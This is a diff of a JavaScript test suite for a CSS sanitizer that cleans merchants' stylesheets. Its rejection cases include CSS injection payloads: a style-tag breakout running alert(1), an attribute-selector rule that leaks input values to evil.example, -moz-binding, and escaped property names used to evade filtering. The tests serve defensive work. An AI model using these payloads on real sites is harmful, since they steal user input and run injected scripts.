@@ -6,6 +6,7 @@ describe("a merchant's stylesheet (S3 A8)", () => {
     ['.dish-card { border-radius: 0 }', '.dish-card{border-radius:0}'],
     [':root { --accent: oklch(0.7 0.2 30) }', ':root{--accent:oklch(0.7 0.2 30)}'],
     ['@media (min-width: 40em) { .menu { gap: 1rem } }', '@media (min-width:40em){.menu{gap:1rem}}'],
+    ['.x { position: relative }', '.x{position:relative}'],
     ['.a { &:hover { color: red } }', '.a{&:hover{color:red}}'],
     [
       '.hero { background: url(/media/tramonto/header/1920x1080.webp) center }',
@@ -36,13 +37,21 @@ describe("a merchant's stylesheet (S3 A8)", () => {
     '.x { -moz-binding: url(x.xml) }',
     '.x { position: fixed; inset: 0 }',
     '.x { position: f\\69xed }',
+    '.x { --p: fixed; position: var(--p) }',
+    '.x { --p: f; position: env(x, fixed) }',
+    '.x { position: absolute }',
+    '.x { position: -webkit-sticky }',
+    '.x { position: STICKY !important }',
+    '.x { position: inherit }',
+    '.x { all: inherit }',
+    '.x { p\\6fsition: absolute }',
     '.x::after { content: "</style><script>alert(1)</script>" }',
     'input[value^="a"] { background: url(https://evil.example/a) }',
     '</style><script>alert(1)</script>',
     '.x { color: red } } .y { background: url(https://evil.example) }',
   ])('neutralizes %s', (css) => {
     const clean = cleanCss(css);
-    expect(clean).not.toMatch(/evil|import|expression|behavior|binding|fixed|<\/|script|svg|url\(/i);
+    expect(clean).not.toMatch(/evil|import|expression|behavior|binding|inherit|position|<\/|script|svg|url\(/i);
   });
 
   it('accepts malformed CSS', () => {
